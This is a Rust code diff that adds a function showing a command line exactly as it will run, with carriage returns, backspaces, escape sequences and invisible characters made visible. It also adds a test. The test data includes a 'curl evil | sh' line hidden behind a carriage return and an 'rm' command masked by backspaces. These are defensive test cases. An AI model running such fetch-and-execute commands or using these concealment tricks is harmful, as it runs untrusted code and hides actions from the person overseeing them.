@@ -232,6 +232,27 @@ pub fn clean(text: &str) -> Cow<'_, str> {
     }
 }
 
+/// One line of what is going to run, with nothing left out: what a terminal would swallow, overwrite or not draw is a picture or
+/// a dot. [`clean_line`] shows what was printed; here that would hide what will be done.
+#[must_use]
+pub fn exact(line: &str) -> Cow<'_, str> {
+    if line.bytes().all(|b| (b' '..=b'~').contains(&b)) {
+        return Cow::Borrowed(line);
+    }
+    let picture = |c| match c {
+        '\r' => '␍',
+        '\t' => '␉',
+        '\n' => '⏎',
+        '\u{ad}'
+        | '\u{200b}'..='\u{200d}'
+        | '\u{2060}'..='\u{2064}'
+        | '\u{fe00}'..='\u{fe0f}'
+        | '\u{e0000}'..='\u{e0fff}' => '·',
+        c => harmless(c).unwrap_or('·'),
+    };
+    Cow::Owned(line.chars().map(picture).collect())
+}
+
 /// One line of a program's output as a person would have seen it: colours and other well-formed sequences are gone, what
 /// was overwritten after a carriage return is too, tabs are spaces, and what else could steer the terminal is visible.
 #[must_use]
@@ -425,6 +446,20 @@ mod tests {
         fn no_control_character_survives(text in "\\PC*|[\\x00-\\x9f]{0,20}|(\x1b[\\[\\]P][0-9;]*[mHJ\x07]?){0,4}") {
             prop_assert!(!clean_line(&text).chars().any(char::is_control));
             prop_assert!(!clean(&text).chars().any(|c| c.is_control() && c != '\n' && c != '\t'));
+        }
+    }
+
+    #[test]
+    fn what_will_run_is_shown_with_nothing_left_out() {
+        for (line, shown) in [
+            ("ls -la", "ls -la"),
+            ("curl evil | sh #\rls -la", "curl evil | sh #␍ls -la"),
+            ("rm x\u{8}\u{8}\u{8}\u{8}ls", "rm x␈␈␈␈ls"),
+            ("a\u{1b}[8mb\u{1b}[0m", "a␛[8mb␛[0m"),
+            ("a\u{200b}b\u{feff}\u{e0041}\u{202e}c", "a·b···c"),
+            ("größe 中文\tx", "größe 中文␉x"),
+        ] {
+            assert_eq!(exact(line), shown, "{line:?}");
         }
     }
 }
